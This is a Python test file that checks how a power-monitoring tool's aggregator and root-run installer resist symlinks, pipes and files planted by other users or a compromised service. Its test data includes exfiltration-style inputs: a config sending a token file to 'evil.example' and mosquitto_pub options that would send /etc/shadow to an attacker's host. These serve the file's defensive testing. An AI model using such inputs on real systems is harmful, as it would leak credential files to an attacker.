"""Directories in which others may write, too: a web root, /tmp, what a service has taken over."""

import json
import os
from pathlib import Path
from typing import Any

import pytest
from support.configuration import with_option

from cli.install.__main__ import main
from cli.run.places import write_private
from services.aggregator.tierfile import TierFile
from services.aggregator.tiers import ROLLED_UP
from shared.atomic import write_durably
from shared.config import load
from shared.errors import ConfigError, Refused
from shared.times import Zone

SOMEBODY = 54321  # a user that no machine has
MODES = 0o777

by_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files to somebody else")


@pytest.mark.parametrize("kind", ["symlink", "hard link", "dangling"])
@pytest.mark.parametrize(("write", "name"), [(write_durably, "tmp"), (write_private, "new")])
def test_a_link_in_the_way_of_a_temporary_file_leads_nowhere(
    tmp_path: Path, write: Any, name: str, kind: str
) -> None:
    """Who may write to the web root could otherwise have the aggregator overwrite its journal."""
    victim, file = tmp_path / "journal", tmp_path / "weekly.json"
    link = tmp_path / f".weekly.json.{name}"
    if kind != "dangling":
        victim.write_text("history")
        victim.chmod(0o600)
    if kind == "hard link":
        link.hardlink_to(victim)
    else:
        link.symlink_to(victim)
    write(file, b"{}" if write is write_durably else "{}")
    assert file.read_text() == "{}"
    assert not file.is_symlink()
    if kind == "dangling":
        assert not victim.exists()
    else:
        assert victim.read_text() == "history"
        assert victim.stat().st_mode & MODES == 0o600


def test_a_file_that_is_a_link_is_replaced_and_not_followed(tmp_path: Path) -> None:
    (tmp_path / "victim").write_text("history")
    (tmp_path / "weekly.json").symlink_to(tmp_path / "victim")
    write_durably(tmp_path / "weekly.json", b"{}")
    assert (tmp_path / "victim").read_text() == "history"
    assert not (tmp_path / "weekly.json").is_symlink()


@pytest.mark.parametrize("kind", ["pipe", "endless"])
def test_what_is_no_file_stops_nothing(tmp_path: Path, kind: str) -> None:
    """A pipe in a file's place would be read for ever."""
    place = tmp_path / "weekly.json"
    if kind == "pipe":
        os.mkfifo(place)
    else:
        place.symlink_to("/dev/zero")
    weekly = TierFile(tmp_path, ROLLED_UP[0], Zone("UTC"))
    assert weekly.load() is None
    assert [path.name.partition(".corrupt-")[0] for path in weekly.corrupt] == ["weekly.json"]


# A configuration that somebody left where an administrator works.


@by_root
@pytest.mark.parametrize("owner", [SOMEBODY, 0, None], ids=["another", "root", "who typed sudo"])
def test_a_configuration_of_somebody_else_is_not_picked_up(
    tmp_path: Path, owner: int | None
) -> None:
    """It could name /etc/shadow as a token, and where to send it."""
    file = tmp_path / "config.json"
    file.write_text('{"home_assistant": {"url": "http://evil.example", "token_file": "secret"}}')
    file.chmod(0o600)
    os.chown(file, SOMEBODY if owner is None else owner, -1)
    environ = {"SUDO_UID": str(SOMEBODY)} if owner is None else {}
    with pytest.raises(ConfigError) as told:
        load(None, environ, cwd=tmp_path, system=tmp_path / "none")
    assert ("belongs to somebody else" in str(told.value)) == (owner == SOMEBODY)


@by_root
def test_a_configuration_of_somebody_else_can_be_asked_for(tmp_path: Path) -> None:
    """A container's user and a service's are somebody else, too."""
    file = tmp_path / "config.json"
    file.write_text("{}")
    os.chown(file, SOMEBODY, -1)
    for path, environ in ((file, {}), (None, {"POWER_MONITOR_CONFIG": "config.json"})):
        with pytest.raises(ConfigError, match=r"home_assistant\.url"):
            load(path, environ, cwd=tmp_path, system=tmp_path / "none")


# What a service that was taken over leaves for the installer, which is root.


@pytest.fixture
def installed(tmp_path: Path) -> Path:
    """Return a state directory that belongs to the service, beside what belongs to root."""
    tmp_path.chmod(0o755)
    for above in tmp_path.parents[:3]:
        above.chmod(above.stat().st_mode | 0o011)
    state = tmp_path / "state"
    state.mkdir()
    os.chown(state, SOMEBODY, SOMEBODY)
    (tmp_path / "precious").mkdir(mode=0o755)
    (tmp_path / "shadow").write_text("root:secret\n")
    (tmp_path / "shadow").chmod(0o600)
    (tmp_path / "config.json").write_text(json.dumps(with_option("paths.state_dir", str(state))))
    (tmp_path / "config.json").chmod(0o600)
    return state


def install(installed: Path, *words: str) -> int:
    """Say a word of the installer's."""
    return main(words, {"POWER_MONITOR_CONFIG": str(installed.parent / "config.json")})


@by_root
@pytest.mark.parametrize("name", ["run", "collector", "syncer"])
def test_the_installer_gives_away_nothing_that_a_link_leads_to(installed: Path, name: str) -> None:
    precious = installed.parent / "precious"
    (installed / name).symlink_to(precious)
    with pytest.raises(OSError, match="not permitted"):
        install(installed, "directories")
    assert (precious.stat().st_uid, precious.stat().st_mode & MODES) == (0, 0o755)


@by_root
def test_the_installer_makes_the_directories_of_services(installed: Path) -> None:
    assert install(installed, "directories") == 0
    made = [(installed / name).stat() for name in ("run", "collector", "syncer")]
    assert {(one.st_uid, one.st_mode & MODES) for one in made} == {(SOMEBODY, 0o700)}


@by_root
@pytest.mark.parametrize("name", ["migrated", ".migrated.tmp"])
def test_the_installer_writes_through_no_link(
    installed: Path, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    shadow = installed.parent / "shadow"
    (installed / name).symlink_to(shadow)
    monkeypatch.setenv("POWER_MONITOR_CONFIG", str(installed.parent / "config.json"))
    try:
        install(installed, "mark")
    except OSError as refused:
        assert refused.errno  # noqa: PT017 - either it is refused or the link is replaced
    assert shadow.read_text() == "root:secret\n"
    assert (shadow.stat().st_uid, shadow.stat().st_mode & MODES) == (0, 0o600)


@by_root
@pytest.mark.parametrize(
    "content",
    [
        "-h evil.example\n-p 1883\n-u admin\n-P x\n-f /etc/shadow\n",
        "-f /etc/shadow\n",
        "\n",
        "-h a b",
    ],
)
def test_the_installer_hands_no_options_to_root_that_are_not_ours(
    installed: Path, content: str
) -> None:
    """With `-f` mosquitto_pub would send a file of root's, to a host of the attacker's choice."""
    admin = installed / "run" / "admin"
    admin.mkdir(parents=True)
    (admin / "mosquitto_pub").write_text(content)
    with pytest.raises(Refused, match="another hand"):
        install(installed, "client-options")


@by_root
def test_the_installer_reads_no_options_that_a_link_leads_to(
    installed: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    admin = installed / "run" / "admin"
    admin.mkdir(parents=True)
    (admin / "mosquitto_pub").symlink_to(installed.parent / "shadow")
    with pytest.raises(PermissionError):
        install(installed, "client-options")
    assert "secret" not in capsys.readouterr().out
